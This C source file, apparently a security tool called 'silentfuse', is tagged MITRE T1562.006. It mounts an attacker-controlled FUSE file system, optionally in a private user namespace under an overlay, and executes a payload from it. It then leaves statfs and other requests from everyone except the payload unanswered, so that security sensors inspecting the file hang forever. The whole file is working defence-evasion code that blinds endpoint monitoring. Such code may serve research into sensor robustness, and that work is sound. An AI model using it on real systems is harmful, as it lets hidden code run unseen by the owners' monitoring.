// Trick: An image on a file system of the attacker's own, which lets every question of the sensor wait for ever.
// Described: fuse(4); Documentation/filesystems/fuse.rst, "Aborting a filesystem connection"; T1562.006
//
// `silentfuse FOLDER SOURCE WORD…`: mounts on FOLDER, and executes `payload` there, a copy of SOURCE, with these words. statfs(2) is
// never answered, and neither is what comes after a line of standard input, but for reading. Ends with its input.
// `silentfuse layers FOLDER SOURCE WORD…`: mounts on FOLDER/below in a user namespace of its own, and on FOLDER/over an overlay over
// that and FOLDER/empty, and executes that payload; from its opening on only reading is answered to others. `refused` if it may not be mounted.
#define _GNU_SOURCE
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

#define CHECK(call) ({ __typeof__(call) result_ = (call); if (result_ < 0) err(99, "%s", #call); result_; })

static int device, layers, opened_once;
static pid_t executes;
static char *image, question[FUSE_MIN_READ_BUFFER + (1 << 17)];
static off_t size;

static void answer(int error, const void *body, size_t len) {
  struct fuse_in_header *head = (void *)question;
  struct fuse_out_header out = {.len = sizeof out + len, .error = error, .unique = head->unique};
  struct iovec parts[2] = {{&out, sizeof out}, {(void *)body, len}};
  // Who asked may have been killed.
  if (writev(device, parts, len ? 2 : 1) < 0 && errno != ENOENT) err(99, "an answer");
}

static struct fuse_attr attributes(uint64_t node) {
  if (node == FUSE_ROOT_ID) return (struct fuse_attr){.ino = 1, .mode = S_IFDIR | 0755, .nlink = 2};
  return (struct fuse_attr){.ino = node, .mode = S_IFREG | 0755, .nlink = 1, .size = size, .blocks = (size + 511) / 512};
}

static void serve(int silent) {
  struct fuse_in_header *head = (void *)question;
  void *body = question + sizeof *head;
  ssize_t got = read(device, question, sizeof question);
  if (got < 0 && (errno == EINTR || errno == ENOENT)) return;
  if (got < 0) err(99, "a question");
  struct fuse_entry_out entry = {.nodeid = 2, .attr = attributes(2)};
  struct fuse_attr_out attr = {.attr = attributes(head->nodeid)};
  struct fuse_open_out opened = {.fh = 1};
  struct fuse_init_out init = {.major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION, .max_readahead = 1 << 16,
                               .max_write = 1 << 16, .time_gran = 1};
  struct fuse_read_in *reading = body;
  switch (head->opcode) {
  case FUSE_INIT: return answer(0, &init, sizeof init);
  case FUSE_READ: {
    off_t at = reading->offset < (uint64_t)size ? (off_t)reading->offset : size;
    size_t most = size - at < reading->size ? size - at : reading->size;
    return answer(0, image + at, most);
  }
  case FUSE_FLUSH: case FUSE_RELEASE: return answer(0, 0, 0);
  case FUSE_STATFS:
    // An overlay asks for the longest name before it is there.
    if (!layers || opened_once) return;
    return answer(0, &(struct fuse_statfs_out){.st = {.bsize = 4096, .frsize = 4096, .namelen = 255}}, sizeof(struct fuse_statfs_out));
  case FUSE_FORGET: case FUSE_BATCH_FORGET: case FUSE_INTERRUPT: return;
  }
  if (silent) return;
  // The execution itself asks for more, for the name again on some kernels (6.12).
  if (layers && opened_once && head->pid != (uint32_t)executes) return;
  switch (head->opcode) {
  case FUSE_LOOKUP: return strcmp(body, "payload") ? answer(-ENOENT, 0, 0) : answer(0, &entry, sizeof entry);
  case FUSE_GETATTR: return answer(0, &attr, sizeof attr);
  case FUSE_OPEN:
    opened_once = 1;
    return answer(0, &opened, sizeof opened);
  default: return answer(-ENOSYS, 0, 0);
  }
}

static void write_to(const char *path, const char *text) {
  int file = CHECK(open(path, O_WRONLY | O_CLOEXEC));
  CHECK(write(file, text, strlen(text)));
  close(file);
}

static void leave_namespaces(void) {
  CHECK(unshare(CLONE_NEWUSER | CLONE_NEWNS));
  write_to("/proc/self/setgroups", "deny");
  write_to("/proc/self/uid_map", "0 0 1");
  write_to("/proc/self/gid_map", "0 0 1");
}

static void layer(const char *folder) {
  char options[8300], over[4096];
  snprintf(options, sizeof options, "lowerdir=%s/below:%s/empty", folder, folder);
  snprintf(over, sizeof over, "%s/over", folder);
  if (!mount("overlay", over, "overlay", 0, options)) return;
  if (errno != EPERM) err(99, "mount an overlay");
  printf("refused\n");
  fflush(stdout);
  _exit(0);
}

int main(int argc, char **argv) {
  layers = argc > 1 && !strcmp(argv[1], "layers");
  argc -= layers, argv += layers;
  if (argc < 4) return 97;
  char options[128], path[4096], place[4096];
  int in = CHECK(open(argv[2], O_RDONLY | O_CLOEXEC)), silent = 0;
  size = lseek(in, 0, SEEK_END);
  image = mmap(0, size, PROT_READ, MAP_PRIVATE | MAP_POPULATE, in, 0);
  if (image == MAP_FAILED) err(99, "mmap");
  if (layers) leave_namespaces();
  device = CHECK(open("/dev/fuse", O_RDWR | O_CLOEXEC));
  snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", device);
  snprintf(place, sizeof place, "%s%s", argv[1], layers ? "/below" : "");
  CHECK(mount("evil", place, "fuse", 0, options));
  snprintf(path, sizeof path, "%s%s/payload", argv[1], layers ? "/over" : "");
  executes = CHECK(fork());
  if (!executes) {
    // Held by who waits for an answer, it would never be closed.
    close(device);
    if (layers) layer(argv[1]);
    argv[2] = path;
    execv(path, argv + 2);
    _exit(99);
  }
  struct pollfd on[2] = {{.fd = 0, .events = POLLIN}, {.fd = device, .events = POLLIN}};
  while (poll(on, 2, -1) > 0) {
    char byte;
    if (on[0].revents && read(0, &byte, 1) <= 0) break;
    if (on[0].revents) silent = 1;
    if (on[1].revents) serve(silent);
  }
  // Whoever still waits for an answer gets an error, and goes on.
  close(device);
  umount2(place, MNT_DETACH);
  return 0;
}
